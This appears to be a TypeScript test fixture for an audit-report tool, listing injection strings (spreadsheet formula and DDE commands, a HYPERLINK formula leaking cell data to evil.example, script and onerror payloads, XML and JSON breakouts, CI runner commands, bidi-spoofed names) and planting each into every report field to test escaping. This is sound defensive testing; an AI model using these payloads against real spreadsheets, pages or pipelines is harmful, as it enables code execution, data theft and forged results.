import { finding, reported, ruleResult, sample, sha, world } from './sample.ts';
import type { Audit } from '../../../src/audit/judge/audit.ts';

/** Texts that somebody outside can write into a title, a name, a reason or a path, each with what it tries. */
export const attacks: readonly (readonly [tries: string, text: string])[] = [
  ['a formula', '=HYPERLINK("https://evil.example?"&A1,"click")'],
  ['a command of a spreadsheet', "=cmd|' /C calc'!A0"],
  ['a formula behind a quote', '"=1+1'],
  ['a formula behind spaces', '   =1+1'],
  ['a formula behind an ideographic space', '\u3000@SUM(1)'],
  ['a formula behind what nobody sees', '\u200B\u202E=1+1'],
  ['a formula in full-width form', '＝1+1'],
  ['a sum', '+1+1'],
  ['a difference', '-1+1'],
  ['a function', '@SUM(1)'],
  ['a formula behind a tab', '\t=1+1'],
  ['a formula behind a line break', '\r\n=1+1'],
  ['a formula in the next cell of another country', 'x;=1+1'],
  ['a row of its own', 'x"\r\n"=1+1","y'],
  ['markdown', '**bold** [click](https://evil.example) ![x](https://evil.example/x.png) `code` <b>x</b>'],
  ['a new row', '| a | b |\n| c |'],
  ['a heading', '\n# Not a finding\n'],
  ['a mention', '@octocat, see #1 and GH-1 :tada:'],
  ['HTML', '</details><script>alert(1)</script><img src=x onerror=alert(1)>'],
  ['the end of the XML', ']]></failure></testcase></testsuite></testsuites><!--'],
  ['an entity', '&lol; &#0; &#xFFFE; <!DOCTYPE x [<!ENTITY a "b">]>'],
  ['what no XML may hold', '\u0000\u0001\u0008\u000B\u001B[31m\uFFFE\uFFFF\uD800x\uDC00'],
  ['the other direction of writing', 'abc\u202E\u2066fdp.exe\u2069'],
  ['a link of SARIF', 'see [here](https://evil.example) and [there](1) and {0} and {1}'],
  ['a command of the runner', '::set-output name=verdict::compliant\n##[error]x'],
  ['an address', 'Alice <alice@example.com>, bob.b+x@sub.example.co.uk, carol＠example.org, dan%40example.net'],
  ['an address apart', 'al\u200Bice@exam\u202Eple.com'],
  ['the end of a JSON text', '"}]}], "complete": true, "x": [{"'],
  ['JavaScript', 'javascript:alert(1)'],
  ['a name of an object', '__proto__'],
];

/** An audit that has this text in every place where a report may show foreign text. */
export function hostileAudit(text: string): Audit {
  const key = `change-without-trail:commit:${text}`;
  const subject = { kind: 'trail', id: text, url: text } as const;
  return sample(
    {
      world: {
        ...world,
        header: { ...world.header, repository: text, run: text, workflow: text, branches: [{ name: text, tip: sha('b') }] },
        holes: [{ kind: 'hole', what: text, why: text, fix: text }],
        untold: [{ kind: 'untold', source: 'log', why: text, fix: text }],
        queries: [{ kind: 'query', of: text, text, times: 1, answered: 1 }],
        totals: [{ kind: 'total', name: text, source: text, count: 1 }],
        tags: [{ kind: 'tag', name: text, sha: sha('d'), moved: [], url: text }],
      },
      complete: false,
      rules: [ruleResult({ why: text }), ruleResult({ rule: 'record-altered', result: 'not tested', tested: 0, found: 0, why: text })],
      findings: [
        finding({ key, subject, message: text, fix: text }),
        finding({
          key: `${key}:2`,
          subject,
          message: text,
          fix: `${text}\n  - ${text}`,
          accepted: {
            reason: text,
            owner: text,
            until: '2026-12-01T00:00:00Z',
            by: { commit: sha('e'), pull: { number: 7, url: text }, merged: text, approved: [text] },
          },
        }),
        finding({ key: `${key}:3`, subject, message: text, fix: text, status: 'fixed' }),
      ],
    },
    [
      reported({
        title: text,
        branch: text,
        landing: text,
        authors: [text, text],
        reviewers: [text],
        mergedBy: text,
        url: text,
        pull: { number: 41, url: text },
        tests: text,
        run: text,
        coverage: [
          {
            flow: text,
            match: 'sha',
            trail: text,
            url: text,
            atMerge: 'compliant',
            atDeployment: null,
            now: 'compliant',
            nowByTodaysTemplate: 'compliant',
            lacks: [text, text],
          },
        ],
        deployments: [{ environment: text, at: '2026-11-17T10:00:00Z', url: text }],
        findings: [key],
      }),
    ],
  );
}

/** A report as one text. */
export async function textOf(report: AsyncIterable<string>): Promise<string> {
  return (await Array.fromAsync(report)).join('');
}
